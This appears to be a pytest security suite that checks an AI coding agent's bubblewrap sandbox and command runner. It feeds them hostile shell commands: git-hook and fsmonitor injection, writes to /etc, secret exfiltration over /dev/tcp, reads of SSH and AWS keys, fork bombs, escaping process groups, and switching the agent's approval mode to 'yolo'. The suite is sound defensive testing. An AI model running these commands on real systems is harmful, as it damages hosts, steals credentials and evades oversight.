"""Attack battery, part 3: what an approved command can still not do.

Sandbox cases run real commands through the Shell tool inside bubblewrap and check the host
afterwards: nothing outside the repository written, ``.git`` untouched, no network, no
surviving process, no secret in the environment. They skip, with the reason, where bwrap
cannot run. Runner cases (no sandbox) check the limits that hold everywhere: time, output,
processes, and cancellation.
"""

from __future__ import annotations

import asyncio
import os
import socket
import time
import uuid
from pathlib import Path

import pytest

from de_agent.security.runner import run_command
from de_agent.security.sandbox import plain
from de_agent.tools.shell import Shell
from tests.support.security import (
    SECRET_TEXT,
    bwrap_or_skip,
    make_ctx,
    make_outside,
    pids_with,
    run_as_user,
    snapshot,
    wait_gone,
)

FAKE_KEY = "sk-test-" + "9" * 24


@pytest.fixture
def host(repo, tmp_path, monkeypatch):
    """A repository, an outside folder and a fake API key in the environment."""
    monkeypatch.setenv("FAKE_SERVICE_API_KEY", FAKE_KEY)
    monkeypatch.setenv("DATABASE_URL", f"postgres://user:{FAKE_KEY}@db.invalid/x")
    outside = make_outside(tmp_path)
    before = snapshot(outside)
    git_before = snapshot(repo / ".git")
    yield repo, outside
    assert snapshot(outside) == before, "something outside the repository changed"
    assert snapshot(repo / ".git") == git_before, ".git changed"


async def _shell(repo: Path, command: str, sandbox, timeout_s: float | None = None):
    args = {"command": command} | ({"timeout_s": timeout_s} if timeout_s else {})
    action = await Shell().prepare(args, make_ctx(repo, runner=sandbox))
    return await action.run(None)


# (id, command) — each tries to write outside the repository or into .git from the sandbox.
SANDBOX_WRITES = [
    ("touch-outside", "touch {out}/new"),
    ("overwrite-outside", "echo pwned > {out}/secret.txt"),
    ("etc", "touch /etc/de-agent-pwned-{u}"),
    ("home", "touch ~/de-agent-pwned-{u}"),
    ("var-tmp", "touch /var/tmp/de-agent-pwned-{u}"),
    ("proc-self-root", "echo pwned > /proc/self/root{out}/secret.txt"),
    ("symlink-out", "ln -s {out} out && echo pwned > out/new"),
    ("hard-link-out", "ln {out}/secret.txt hl && echo pwned >> hl"),
    ("git-hook", "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
    ("git-config", "git config core.fsmonitor 'touch pwned'"),
    ("git-commit", "git commit --allow-empty -qm pwned"),
    ("git-objects", "rm -rf .git/objects"),
    ("remount", "mount -o remount,rw / && touch /etc/de-agent-pwned-{u}"),
    ("sysctl", "cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname"),
    ("mknod", "mknod disk b 8 0 && echo x > disk"),
]


@pytest.mark.parametrize(("case", "template"), SANDBOX_WRITES, ids=[c[0] for c in SANDBOX_WRITES])
async def test_sandbox_cannot_write_outside_or_into_git(host, case, template):
    repo, outside = host
    sandbox = bwrap_or_skip()
    u = uuid.uuid4().hex[:8]
    outcome = await _shell(repo, template.format(out=outside, u=u), sandbox)
    assert not outcome.ok, outcome.output
    for path in (f"/etc/de-agent-pwned-{u}", os.path.expanduser(f"~/de-agent-pwned-{u}"),
                 f"/var/tmp/de-agent-pwned-{u}"):
        assert not os.path.exists(path)
    assert not (repo / "pwned").exists()


async def test_sandbox_tmp_is_private_and_repository_writable(host):
    repo, _ = host
    sandbox = bwrap_or_skip()
    name = f"/tmp/de-agent-marker-{uuid.uuid4().hex}"
    outcome = await _shell(repo, f"echo inside > {name} && cat {name} && echo made > made.txt && git log --oneline",
                           sandbox)
    assert outcome.ok and "inside" in outcome.output and "init" in outcome.output, outcome.output
    assert not os.path.exists(name)
    assert (repo / "made.txt").read_text() == "made\n"


async def test_sandbox_protects_project_config(host):
    repo, _ = host
    sandbox = bwrap_or_skip()
    (repo / ".de-agent").mkdir()
    (repo / ".de-agent" / "config.toml").write_text('approval_mode = "default"\n')
    outcome = await _shell(repo, "echo 'approval_mode = \"yolo\"' > .de-agent/config.toml", sandbox)
    assert not outcome.ok
    assert "yolo" not in (repo / ".de-agent" / "config.toml").read_text()


def _listen() -> socket.socket:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    return server


def _arrived(server: socket.socket) -> list[str]:
    """What reached the server. Called after the command ended: a connection it made is in the
    listen queue by then (connect returned), so this takes it without waiting."""
    seen: list[str] = []
    server.setblocking(False)
    try:
        while True:
            try:
                conn, _ = server.accept()
            except BlockingIOError:
                return seen
            with conn:
                conn.settimeout(5)
                seen.append(conn.recv(100).decode(errors="replace"))
    finally:
        server.close()


@pytest.mark.parametrize("how", ["bash-dev-tcp", "python-socket"])
async def test_sandbox_has_no_network(host, how):
    repo, _ = host
    sandbox = bwrap_or_skip()
    server = _listen()
    port = server.getsockname()[1]
    command = (f"echo leak-{FAKE_KEY[:6]} > /dev/tcp/127.0.0.1/{port}" if how == "bash-dev-tcp" else
               f"/usr/bin/python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'leak')\"")
    outcome = await _shell(repo, command, sandbox)
    seen = _arrived(server)
    assert not outcome.ok, outcome.output
    assert seen == [], "the sandboxed command reached a server on the host"


async def test_sandbox_network_when_allowed_reaches_the_host(host):
    """Control for the case above: with sandbox_network the same connection arrives."""
    repo, _ = host
    sandbox = bwrap_or_skip(sandbox_network=True)
    server = _listen()
    outcome = await _shell(repo, f"echo hello > /dev/tcp/127.0.0.1/{server.getsockname()[1]}", sandbox)
    seen = _arrived(server)
    assert outcome.ok, outcome.output
    assert seen and "hello" in seen[0]


async def test_sandbox_host_unix_sockets_unreachable(host):
    repo, _ = host
    sandbox = bwrap_or_skip()
    if not os.access("/run", os.W_OK):
        pytest.skip("cannot create a socket under /run as this user")
    path = f"/run/de-agent-test-{uuid.uuid4().hex[:8]}.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(1)
    try:
        command = f"/usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}')\""
        outcome = await _shell(repo, command, sandbox)
        assert not outcome.ok, outcome.output
    finally:
        server.close()
        os.unlink(path)


@pytest.mark.parametrize("how", ["background", "setsid-nohup", "double-fork"])
async def test_sandbox_background_child_dies_with_the_call(host, how):
    repo, _ = host
    sandbox = bwrap_or_skip()
    marker = f"8{uuid.uuid4().int % 10**6}.5"
    command = {"background": f"sleep {marker} & echo started",
               "setsid-nohup": f"nohup setsid sleep {marker} > /dev/null 2>&1 & echo started",
               "double-fork": f"( (sleep {marker} &) & ) ; echo started"}[how]
    start = time.monotonic()
    outcome = await _shell(repo, command, sandbox)
    assert outcome.ok and "started" in outcome.output
    assert time.monotonic() - start < 3
    assert wait_gone(marker, 1.0) == [], "a child of the sandboxed command survived the call"


async def test_sandbox_environment_has_no_secrets(host, tmp_path, monkeypatch):
    repo, _ = host
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET_TEXT)
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(SECRET_TEXT)
    monkeypatch.setenv("HOME", str(home))
    sandbox = bwrap_or_skip()
    outcome = await _shell(repo, "env; cat /proc/*/environ | tr '\\0' '\\n'; cat ~/.ssh/id_rsa ~/.aws/credentials;"
                                 f" ls /proc/{os.getpid()} ; true", sandbox)
    assert FAKE_KEY not in outcome.output and "FAKE_SERVICE_API_KEY" not in outcome.output
    assert "DATABASE_URL" not in outcome.output
    assert SECRET_TEXT not in outcome.output
    assert "PAGER=cat" in outcome.output


async def test_sandbox_cannot_signal_host_processes(host):
    repo, _ = host
    sandbox = bwrap_or_skip()
    outcome = await _shell(repo, f"kill -0 {os.getpid()}", sandbox)
    assert not outcome.ok


async def test_sandbox_fork_bomb_is_bounded(host):
    """As an ordinary user (RLIMIT_NPROC does not bind root) inside bubblewrap."""
    bwrap_or_skip()
    elapsed, leftovers = _bomb("bwrap")
    assert elapsed < 8 and leftovers == 0


async def test_sandbox_output_flood_is_bounded(host):
    repo, _ = host
    sandbox = bwrap_or_skip()
    outcome = await _shell(repo, "yes flood", sandbox, timeout_s=1.5)
    assert not outcome.ok and "Timed out" in outcome.output
    assert len(outcome.output) < 60_000 and "omitted" in outcome.output


_BOMB_SCRIPT = """
import asyncio, os, time
from de_agent.config import Settings
from de_agent.security.runner import run_command
from de_agent.security.sandbox import plain
from de_agent.security.sandbox import resolve_sandbox
sandbox = resolve_sandbox(Settings(sandbox="{sandbox}")) if "{sandbox}" == "bwrap" else None
name = "bomb{marker}"
start = time.monotonic()
r = asyncio.run(run_command(name + "(){{ " + name + "|" + name + "& }};" + name, os.getcwd(), 2.0,
                            sandbox=sandbox))
elapsed = time.monotonic() - start
def alive():
    left = []
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and int(p) != os.getpid() and name in open("/proc/" + p + "/cmdline").read():
                state = open("/proc/" + p + "/stat").read().rsplit(")", 1)[1].split()[0]
                if state != "Z":
                    left.append(p + ":" + state)
        except (OSError, ValueError):
            pass
    return left
deadline = time.monotonic() + 2  # killed processes may take a moment to leave /proc
while (left := alive()) and time.monotonic() < deadline:
    time.sleep(0.05)
print(round(elapsed, 2), len(left), *left)
"""


def _bomb(sandbox: str) -> tuple[float, int]:
    proc = run_as_user(_BOMB_SCRIPT.format(sandbox=sandbox, marker=uuid.uuid4().hex[:8]), timeout=60)
    assert proc.returncode == 0, proc.stderr
    elapsed, leftovers, *details = proc.stdout.split()
    assert not details, f"processes left: {details}"
    return float(elapsed), int(leftovers)


async def test_runner_fork_bomb_is_bounded_in_time_and_processes():
    elapsed, leftovers = _bomb("none")
    assert elapsed < 8 and leftovers == 0


async def test_runner_timeout_kills_the_whole_group(tmp_path):
    marker = f"7{uuid.uuid4().int % 10**6}.5"
    start = time.monotonic()
    result = await run_command(f"sleep {marker} & sleep {marker}", tmp_path, 1.0)
    assert result.timed_out and time.monotonic() - start < 4
    assert wait_gone(marker) == []


async def test_runner_background_child_does_not_hold_the_call(tmp_path):
    marker = f"6{uuid.uuid4().int % 10**6}.5"
    start = time.monotonic()
    result = await run_command(f"sleep {marker} & echo started", tmp_path, 30)
    assert result.exit_code == 0 and "started" in result.output
    assert time.monotonic() - start < 2
    assert wait_gone(marker) == []


async def both_started(marker: str, timeout: float = 10.0) -> None:
    """Wait until the command's two ``sleep MARKER`` processes run (then cancelling has both to kill)."""
    def sleeps() -> list[int]:
        found = []
        for pid in pids_with(marker):  # also the shell that starts them: count the sleeps only
            try:
                if Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0].endswith(b"sleep"):
                    found.append(pid)
            except OSError:
                pass
        return found

    deadline = time.monotonic() + timeout
    while len(sleeps()) < 2:
        assert time.monotonic() < deadline, f"the two sleeps never started: {pids_with(marker)}"
        await asyncio.sleep(0.02)


@pytest.mark.parametrize("killer", ["cgroup-or-launcher", "launcher"])
@pytest.mark.parametrize("how", ["setsid-bg", "setsid-fork", "double-fork-new-session", "nohup-setsid"])
async def test_runner_escaped_child_is_killed_at_the_end_of_the_call(tmp_path, monkeypatch, how, killer):
    """Without a PID namespace: a process that left the group (new session) is still killed,
    by the cgroup where one can be made, else by the subreaper launcher."""
    if killer == "launcher":
        from de_agent.security import pidcap

        monkeypatch.setattr(pidcap.PidCap, "open", classmethod(lambda cls, *a, **k: None))
    marker = f"5{uuid.uuid4().int % 10**6}.5"
    command = {"setsid-bg": f"setsid sleep {marker} & echo started",
               "setsid-fork": f"setsid -f sleep {marker}; echo started",
               "double-fork-new-session": f"( setsid sh -c 'sleep {marker} & exit' & ) ; echo started",
               "nohup-setsid": f"nohup setsid sh -c 'sleep {marker}' >/dev/null 2>&1 & echo started"}[how]
    try:
        start = time.monotonic()
        result = await run_command(command, tmp_path, 30)
        assert "started" in result.output and time.monotonic() - start < 5
        assert wait_gone(marker) == [], f"{how}: a process outlived the call"
    finally:
        for pid in pids_with(marker):  # the test started it: clean up by pid
            os.kill(pid, 9)


@pytest.mark.parametrize("killer", ["cgroup-or-launcher", "launcher"])
async def test_runner_cancellation_kills_escaped_children_too(tmp_path, monkeypatch, killer):
    if killer == "launcher":
        from de_agent.security import pidcap

        monkeypatch.setattr(pidcap.PidCap, "open", classmethod(lambda cls, *a, **k: None))
    marker = f"3{uuid.uuid4().int % 10**6}.5"
    try:
        task = asyncio.ensure_future(run_command(f"setsid sleep {marker} & sleep {marker}", tmp_path, 60))
        await both_started(marker)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert wait_gone(marker) == []
    finally:
        for pid in pids_with(marker):
            os.kill(pid, 9)


async def test_runner_output_flood_bounded_in_time_and_memory(tmp_path):
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    result = await run_command("yes flood", tmp_path, 1.5)
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert result.timed_out and time.monotonic() - start < 5
    assert result.total_bytes > 10_000_000 and len(result.output) < 60_000 and result.truncated
    assert (after - before) * 1024 < 40 * 2**20, "reading the flood grew memory"


async def test_runner_cancellation_kills_the_group(tmp_path):
    marker = f"4{uuid.uuid4().int % 10**6}.5"
    task = asyncio.ensure_future(run_command(f"sleep {marker} & sleep {marker}", tmp_path, 60))
    await both_started(marker)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert wait_gone(marker) == []


async def test_runner_parent_environment_unreadable_by_commands():
    """``cat /proc/$PPID/environ`` must not show de-agent's own keys (as an ordinary user)."""
    script = ("import asyncio, os\nfrom de_agent.security.runner import run_command\n"
              "r = asyncio.run(run_command('cat /proc/$PPID/environ; env', os.getcwd(), 10))\n"
              "print(r.output)")
    proc = run_as_user(script, extra_env={"FAKE_SERVICE_API_KEY": FAKE_KEY})
    assert proc.returncode == 0, proc.stderr
    assert FAKE_KEY not in proc.stdout


async def test_runner_startup_hooks_and_exported_functions_dropped(tmp_path, monkeypatch):
    hook = tmp_path / "hook.sh"
    hook.write_text(f"touch {tmp_path}/hooked\n")
    monkeypatch.setenv("BASH_ENV", str(hook))
    monkeypatch.setenv("BASH_FUNC_ls%%", "() { touch " + str(tmp_path) + "/hooked; }")
    result = await run_command("ls /", tmp_path, 10)
    assert result.exit_code == 0
    assert not (tmp_path / "hooked").exists()


async def test_runner_relative_path_entries_cannot_shadow_programs(repo, monkeypatch):
    """A file named ``ls`` in the repository must not run when PATH has an empty entry."""
    fake = repo / "ls"
    fake.write_text("#!/bin/sh\ntouch pwned\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", ":" + os.environ["PATH"] + ":.")
    outcome = await _shell(repo, "ls", plain())
    assert outcome.ok and not (repo / "pwned").exists()


async def test_runner_limits_in_force(tmp_path):
    result = await run_command("ulimit -c; ulimit -f; ulimit -u; ulimit -v", tmp_path, 10)
    core, fsize, nproc, vmem = result.output.split()
    assert core == "0" and fsize != "unlimited" and nproc != "unlimited" and vmem != "unlimited"


async def test_runner_stdin_is_closed(tmp_path):
    start = time.monotonic()
    result = await run_command("cat; read x; echo done", tmp_path, 10)
    assert result.exit_code == 0 and "done" in result.output and time.monotonic() - start < 2
